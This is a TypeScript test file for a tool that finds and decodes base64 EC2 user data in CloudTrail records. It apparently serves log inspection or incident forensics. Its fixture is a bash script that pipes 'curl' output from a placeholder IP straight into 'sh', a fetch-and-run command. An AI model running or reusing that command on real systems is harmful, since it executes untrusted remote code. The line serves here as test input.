import { expect, test } from 'vitest';
import { decodeBase64, encodedUserData } from './base64.ts';
import { isUnreadable, readJson } from './read.ts';

const script = '#!/bin/bash\ncurl http://203.0.113.9/é | sh\n';
const encoded = btoa(String.fromCodePoint(...new TextEncoder().encode(script)));

/** Of the innermost value of a record. */
function found(record: unknown): string | undefined {
  const document = readJson(JSON.stringify(record));
  if (isUnreadable(document)) throw new Error('no JSON');
  return encodedUserData(document, document.nodes.size - 1);
}

test('user data is found by its name, also one level down, and is told as the text that it is', () => {
  expect(found({ requestParameters: { userData: encoded } })).toBe(encoded);
  expect(found({ requestParameters: { userData: { value: encoded } } })).toBe(encoded);
  expect(decodeBase64(encoded)).toEqual({ text: script, cut: false });
});

test('other members, and user data that CloudTrail took out, are left as they are', () => {
  expect(found({ requestParameters: { imageId: encoded } })).toBeUndefined();
  expect(found({ requestParameters: { userData: '<sensitiveDataRemoved>' } })).toBeUndefined();
});

test('what is compressed or broken is not shown as text; what is long is cut and says so', () => {
  expect(decodeBase64(btoa('\u001F\u008Bxxxx'))).toBeUndefined();
  expect(decodeBase64('abcde')).toBeUndefined();
  const long = decodeBase64(btoa('x'.repeat(200_000)));
  expect([long?.text.length, long?.cut]).toEqual([65_538, true]);
});
